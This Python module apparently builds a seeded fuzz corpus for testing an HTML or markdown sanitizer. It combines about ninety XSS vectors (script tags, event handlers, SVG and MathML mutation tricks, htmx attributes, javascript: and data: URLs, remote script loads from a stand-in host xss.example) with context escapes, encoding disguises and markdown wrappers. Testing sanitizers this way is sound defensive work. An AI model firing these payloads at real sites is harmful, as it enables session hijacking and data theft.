"""Hostile texts: known vectors × ways out of their context × disguises × markdown around them.

Every one calls ``xss(number)`` or asks for an address with ``xss`` in it if anything of it ever
comes alive.  Seeded: the same number of the same seed is the same corpus.
"""

import html
from collections.abc import Callable, Iterator
from itertools import count
from random import Random
from urllib.parse import quote

CALL = "xss(%d)"

VECTORS = (
    "<script>{x}</script>",
    "<ScRiPt >{x}</sCrIpT\n>",
    "<script src=//xss.example/{n}.js></script>",
    "<script\x0c>{x}</script>",
    "<img src=x onerror={x}>",
    "<img src=/xss/{n}>",
    "<image src=x onerror={x}>",
    "<img srcset='/xss/{n} 2x'>",
    "<svg onload={x}>",
    "<svg/onload={x}//",
    "<svg><script>{x}</script></svg>",
    "<svg><script href=data:text/javascript,{x} />",
    "<svg><animate onbegin={x} attributeName=x dur=1s>",
    "<svg><set onend={x} attributeName=x dur=0.01s>",
    "<svg><a><animate attributeName=href values=javascript:{x} /><text x=20 y=20>go</text></a>",
    "<svg><foreignObject><img src=x onerror={x}></foreignObject></svg>",
    "<svg><style><img src=x onerror={x}></style></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"/>#x'></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror={x}&gt;'>",
    "<math><mtext></p><mglyph><style><img src=x onerror={x}></style></mglyph></mtext></math>",
    "<math href=javascript:{x}>go</math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={x}></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style>"
    "<path id='</style><img onerror={x} src>'>",
    "<noscript><p title='</noscript><img src=x onerror={x}>'>",
    "<template><img src=x onerror={x}></template>",
    "<select><template><style><!--</style>"
    "<a rel='--></style></template></select><img onerror={x} src>'>",
    "<xmp><p title='</xmp><img src=x onerror={x}>'>",
    "<textarea><p title='</textarea><img src=x onerror={x}>'>",
    "<title><p title='</title><img src=x onerror={x}>'>",
    "<details open ontoggle={x}>",
    "<input autofocus onfocus={x}>",
    "<select autofocus onfocus={x}>",
    "<p contenteditable autofocus onfocus={x}>",
    "<video src=x onerror={x}></video>",
    "<video><source onerror={x}></video>",
    "<audio src=x onerror={x}>",
    "<marquee onstart={x}>",
    "<body onload={x}>",
    "<body onpageshow={x}>",
    "<style>@import '//xss.example/{n}'</style>",
    "<style>*{{animation:a}}@keyframes a{{}}</style>"
    "<p onanimationstart={x} style='animation:a 1s'>",
    "<link rel=stylesheet href=//xss.example/{n}>",
    "<link rel=preload as=image href=/xss/{n}>",
    "<meta http-equiv=refresh content='0;url=/xss/{n}'>",
    "<base href=//xss.example/>",
    "<iframe srcdoc='<script>parent.{x}</script>'></iframe>",
    "<iframe src=javascript:{x}></iframe>",
    "<iframe src=/xss/{n}></iframe>",
    "<object data=javascript:{x}></object>",
    "<object data=/xss/{n}></object>",
    "<embed src=javascript:{x}>",
    "<embed src=/xss/{n}>",
    "<form action=javascript:{x}><button autofocus>go</button></form>",
    "<form id=csrf><input name=csrf_token value=xss-{n}></form>",
    "<button formaction=javascript:{x}>go</button>",
    "<a href=javascript:{x}>go</a>",
    "<a href='java\tscript:{x}'>go</a>",
    "<a href=' &#106;avascript&colon;{x}'>go</a>",
    "<a href=data:text/html,<script>{x}</script>>go</a>",
    "<a href=/xss/{n} ping=/xss/{n}>go</a>",
    "<a hx-get=/xss/{n} hx-trigger=load>go</a>",
    "<a data-hx-get=/xss/{n} data-hx-trigger=load>go</a>",
    "<div hx-get=/xss/{n} hx-trigger=load hx-swap=outerHTML></div>",
    "<div hx-post=/xss/{n} hx-trigger='every 1ms' hx-vals='js:{{a:{x}}}'></div>",
    "<div data-hx-post=/xss/{n} data-hx-trigger='load' data-hx-headers='js:{{a:{x}}}'></div>",
    "<div hx-on:load={x}></div>",
    "<div hx-on::load={x}></div>",
    "<div data-hx-on--load={x}></div>",
    "<div data-hx-on:htmx:load={x}></div>",
    "<p hx-boost=true><a href=/xss/{n} hx-trigger=load>go</a></p>",
    "<p hx-ext=xss-{n} hx-disable=false></p>",
    "<p data-dialog=keys data-draft=xss data-key=c>go</p>",
    "<p id=toasts class='alert xss' style='position:fixed;background:url(/xss/{n})'>go</p>",
    "<!--><img src=x onerror={x}>-->",
    "<!-- --!><img src=x onerror={x}> -->",
    "<![CDATA[><img src=x onerror={x}>]]>",
    "<?xml version='1.0'?><img src=x onerror={x}>",
    "</p><img src=x onerror={x}><p>",
    "<plaintext><img src=x onerror={x}>",
    "<table background=/xss/{n}><td onerror={x}>",
    "<isindex type=image src=x onerror={x}>",
    "javascript:{x}",
    "JaVaScRiPt:{x}",
    "vbscript:{x}",
    "data:text/html,<script>{x}</script>",
    "data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=",
    "//xss.example/{n}",
    "/xss/{n}",
    "{{{{ xss }}}}{{% raw %}}${{{x}}}<%= {x} %>#{{{x}}}",
)

WAYS_OUT = (
    "", "", "", '">', "'>", "'\">", "</textarea>", "</title>", "</script>", "</style>", "-->",
    "]]>", "</option></select>", "</svg>", "</a>", '" autofocus onfocus={x} x="',
    "' onmouseover={x} x='", '"hx-get="/xss/{n}" hx-trigger="load" x="', "`-{x}-`", "\\\";{x};//",
    "<<", "<p>", "\ufeff", "\u202e", "&lt;", "%22%3e",
)  # fmt: skip


def _mixed(text: str) -> str:
    return "".join(one.upper() if place % 2 else one for place, one in enumerate(text))


DISGUISES: tuple[Callable[[str], str], ...] = (
    *[str] * 6,
    html.escape,
    lambda text: html.escape(html.escape(text)),
    lambda text: "".join(f"&#{ord(one)}" for one in text),
    lambda text: "".join(f"&#x{ord(one):x};" for one in text),
    lambda text: text.replace("<", "&lt").replace(">", "&gt"),
    quote,
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "\\x3c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\t"),
    lambda text: text.replace("=", "\n=\n"),
    lambda text: text.replace("<", "<\u200b"),
    lambda text: text.replace("script", "scr\u00adipt"),
    lambda text: text.replace("<", "<\u0338"),
    lambda text: text.replace("s", "ſ"),
    lambda text: text.rstrip(">"),
    lambda text: text.replace("<", "<<"),
    lambda text: f"{text}{text[::-1]}",
    lambda text: text.replace("on", "ON"),
    lambda text: text.replace("<", "\\<"),
)

MARKDOWN = (
    *["{p}"] * 4,
    "[go]({p})",
    "[go](<{p}>)",
    '[go](http://a.example "{p}")',
    "[{p}](http://a.example)",
    "![{p}]({p})",
    "[![go]({p})]({p})",
    "<{p}>",
    "[go][1]\n\n[1]: {p}",
    "[go][1]\n\n[1]: http://a '{p}'",
    "`{p}`",
    "``{p}",
    "```{p}\ngo\n```",
    "```\n{p}\n```",
    "    {p}",
    "> {p}",
    "# {p}",
    "- {p}\n- {p}",
    "1. {p}",
    "**{p}**",
    "*{p}",
    "{p}\n===",
    "| {p} |\n|---|\n| {p} |",
    "[^1]\n\n[^1]: {p}",
    "http://a.example/{p}",
    "<http://a.example/{p}>",
    "<!-- {p}",
    "\\{p}",
    "&{p};",
    "{p}  \n{p}",
    "~~~ {p}\n{p}",
)


def make_corpus(seed: int, size: int) -> list[str]:
    """Each vector, each with every way out, then mixtures up to ``size`` different texts."""
    random = Random(seed)
    seen: dict[str, None] = {}
    numbers = count(1)
    plain = _plain(numbers)
    mixtures = (_mix(random, next(numbers)) for _ in iter(int, 1))
    for text in plain:
        seen.setdefault(text)
    for text in mixtures:
        if len(seen) >= size:
            break
        seen.setdefault(text)
    corpus = list(seen)
    random.shuffle(corpus)
    return corpus[:size]


def _plain(numbers: Iterator[int]) -> list[str]:
    return [_filled(vector, next(numbers)) for vector in VECTORS]


def _mix(random: Random, number: int) -> str:
    out = _filled(random.choice(WAYS_OUT), number)
    vector = random.choice(DISGUISES)(_filled(random.choice(VECTORS), number))
    return random.choice(MARKDOWN).replace("{p}", out + vector)


def _filled(text: str, number: int) -> str:
    return text.format(x=CALL % number, n=number)
